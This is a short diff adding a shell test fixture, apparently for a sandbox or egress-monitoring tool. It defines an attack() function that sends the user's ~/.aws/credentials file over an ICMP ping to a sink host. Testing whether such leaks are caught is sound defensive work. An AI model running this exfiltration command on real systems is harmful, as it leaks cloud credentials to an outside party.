@@ -1,0 +1,4 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="an ICMP echo from an unprivileged ping socket"
+DEST="$SINK4*"
+attack() { "$PROVOKE/datagram" ping "$HOME/.aws/credentials" "$SINK4" 0; }
